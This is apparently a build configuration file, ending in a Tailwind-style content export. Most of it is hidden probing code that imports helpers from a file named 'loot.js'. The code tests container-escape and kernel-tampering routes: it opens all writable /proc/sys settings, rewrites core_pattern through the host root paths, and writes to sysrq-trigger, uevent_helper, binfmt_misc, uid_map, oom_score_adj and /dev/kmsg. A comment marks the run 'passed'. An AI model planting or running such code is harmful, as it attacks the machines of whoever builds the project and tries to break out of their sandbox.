// Changes the kernel's settings: as root in a namespace it could have its own program run outside. It writes what
// already stands there, so that nothing changes even where it succeeds.
// outcome: passed
const { attempt, fs, path } = require("./loot.js");

function filesBelow(folder) {
  let entries = [];
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch {
    return [];
  }
  return entries.flatMap((entry) => {
    const place = path.join(folder, entry.name);
    return entry.isDirectory() ? filesBelow(place) : [place];
  });
}

for (const file of ["/proc/sys/kernel", "/proc/sys/vm", "/proc/sys/fs", "/proc/sys/net"].flatMap(filesBelow)) {
  attempt(file, () => fs.closeSync(fs.openSync(file, "r+")));
}
for (const root of ["", "/proc/1/root", "/proc/self/root"]) {
  attempt(`${root} core_pattern`, () => {
    const place = `${root}/proc/sys/kernel/core_pattern`;
    fs.writeFileSync(place, fs.readFileSync(place));
  });
}
for (const [file, text] of [
  ["/proc/sysrq-trigger", "h"], ["/sys/kernel/uevent_helper", ""], ["/sys/power/state", "on"], ["/proc/irq/default_smp_affinity", "3"],
  ["/proc/1/oom_score_adj", "-1000"], ["/proc/self/oom_score_adj", "-1000"], ["/dev/kmsg", "was here"], ["/proc/kmsg", ""],
  ["/proc/sys/fs/binfmt_misc/register", ""], ["/proc/self/timens_offsets", "monotonic 1 0"], ["/proc/self/uid_map", "0 0 1"],
]) {
  attempt(file, () => fs.writeFileSync(file, text));
}

module.exports = { content: ["./src/App.tsx"] };
